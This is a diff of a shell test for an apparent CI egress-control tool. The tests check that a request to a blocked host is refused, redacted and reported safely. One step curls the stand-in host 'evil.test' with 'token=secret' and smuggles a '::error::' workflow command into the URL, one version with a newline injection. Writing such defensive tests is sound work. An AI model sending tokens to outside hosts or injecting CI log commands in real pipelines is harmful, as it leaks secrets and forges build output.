@@ -89,7 +89,7 @@ step 1 <<'S'
 curl -sS --max-time 20 https://api.test/hello.txt
 S
 step 2 <<'S'
-curl -sS --max-time 20 -o /dev/null -w '%{http_code}' 'https://evil.test/a%0A::error::b?token=secret'
+curl -sS --max-time 20 -o /dev/null -w '%{http_code}' 'https://evil.test/::error::b?token=secret'
 S
 step 3 <<'S'
 setsid sleep 300 </dev/null >/dev/null 2>&1 &
@@ -117,7 +117,7 @@ t "what the step left behind runs" kill -0 "$LEFT"
 touch "$J/go_on"
 job_wait
 is "$(result)" 0 "the job succeeds"
-like "$(cat "$J/completed")" '^::error title=egret::GET https://evil\.test/a.* was refused: no rule allows it; to allow it, add' "the completed hook shows what was refused as an error"
+like "$(cat "$J/completed")" '^::error title=egret::GET https://evil\.test/::error::b was refused: no rule allows it; to allow it, add' "the completed hook shows what was refused as an error"
 unlike "$(cat "$J/completed")" 'secret' "without the query"
 is "$(grep -c '^::' "$J/completed")" 1 "and what the job wrote begins no command"
 like "$(cat "$J/step_summary")" '^## The network of this job' "a step summary"
